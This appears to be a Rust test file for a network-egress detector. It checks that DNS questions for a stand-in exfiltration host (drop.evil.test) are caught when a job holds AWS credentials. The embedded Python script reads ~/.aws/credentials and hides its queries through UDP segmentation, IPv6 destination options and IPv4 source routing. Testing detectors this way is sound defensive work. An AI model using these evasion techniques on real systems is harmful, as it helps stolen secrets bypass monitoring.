//! Questions in unusual packets: a holder's question for a name that may not have the key does not get out in the shade of one that
//! may.

use detector::engine::Verdict;
use detector_tests::{
    name_server::{NameServer, Zone},
    namespace::{OTHER_V4, SINK_V4, SINK_V6},
    resolver::Resolver,
    scene::Scene,
    spent::{leaks, learned, policy},
    watched::Watched,
};
use std::{fs, net::IpAddr};

type Result = anyhow::Result<()>;

const GOOD: &str = "api.good.test";
const EVIL: &str = "drop.evil.test";

/// `ask.py SERVER FIRST SECOND FILE`: reads the file, and asks.
const ASK: &str = r#"
import socket, struct, sys
def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
server, first, second, file = sys.argv[1:5]
open(file).read()
out = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
out.settimeout(2)
"#;

/// The kernel cuts what is sent at once into datagrams of 64 bytes (UDP_SEGMENT), behind all hooks.
const CUT: &str = r#"
out.setsockopt(socket.IPPROTO_UDP, 103, 64)
out.connect((server, 53))
out.send(question(first).ljust(64, b"\0") + question(second))
out.recv(512)
"#;

/// Options for the destination stand before the header of UDP: eight bytes of padding.
const OPTIONS: &str = r#"
out.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
out.connect((server, 53))
out.send(question(second))
out.recv(512)
"#;

/// A source route: the packet is for the thief's own host first, which is told for whom the rest of the way is.
const ROUTE: &str = r#"
out.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton("198.51.100.7") + b"\0")
out.connect((server, 53))
out.send(question(first))
out.recv(512)
"#;

struct Asked {
    server: NameServer,
    run: Watched,
}

/// Asks so, as one who holds the key or not.
fn ask(how: &str, server: IpAddr, mode: &'static str, holds: bool) -> anyhow::Result<Asked> {
    let scene = Scene::new()?;
    let zone = Zone::new().a(GOOD, [SINK_V4]).a(EVIL, [OTHER_V4]);
    let names = NameServer::start(&scene.network.sink, zone)?;
    let file = if holds { "~/.aws/credentials" } else { "/dev/null" };
    // Who wants to be on a route lets himself be.
    scene.network.sink.within(|| {
        let setting = |of: &str| format!("/proc/sys/net/ipv4/conf/{of}/accept_source_route");
        Ok(["all", "sink0"].iter().try_for_each(|of| fs::write(setting(of), "1"))?)
    })?;
    let script = format!(
        "cat > \"$TMPDIR/ask.py\" <<'END'\n{ASK}{how}END\npython3 \"$TMPDIR/ask.py\" {server} {GOOD} {EVIL} {file} || true\n"
    );
    let job = scene.job(["bash", "-c", &script]).policy(policy(&[(GOOD, "aws")])).mode(mode);
    let run = Watched::run(&scene, &job.resolver(Resolver::new([server])))?;
    Ok(Asked { server: names, run })
}

/// Nothing gets out of a holder; in audit it does, and is found. Who holds nothing asks as he likes.
fn is_judged(how: &str, server: IpAddr, name: &str) -> Result {
    for (mode, holds) in [("enforce", true), ("audit", true), ("enforce", false)] {
        let Asked { server, run } = ask(how, server, mode, holds)?;
        let (refused, said) = (mode == "enforce" && holds, String::from_utf8_lossy(&run.outcome.stderr));
        assert_eq!(server.asked(name) == 0, refused, "{mode}, {holds}: {said}");
        assert_eq!(leaks(&run).is_empty(), !holds, "{mode}: {:#?}", run.conclusion.findings);
        assert_eq!(run.conclusion.verdict == Verdict::Fail, holds, "{mode}: {said}");
        assert!(learned(&run).is_empty(), "{:?}", learned(&run));
    }
    Ok(())
}

#[test]
fn questions_that_the_kernel_cuts() -> Result {
    is_judged(CUT, SINK_V4, EVIL)?;
    is_judged(CUT, SINK_V6, EVIL)
}

#[test]
fn a_question_behind_options() -> Result {
    is_judged(OPTIONS, SINK_V6, EVIL)
}

/// Even a question for the good name is refused: it does not go to the name server.
#[test]
fn a_question_that_takes_a_way_of_its_own() -> Result {
    is_judged(ROUTE, SINK_V4, GOOD)
}
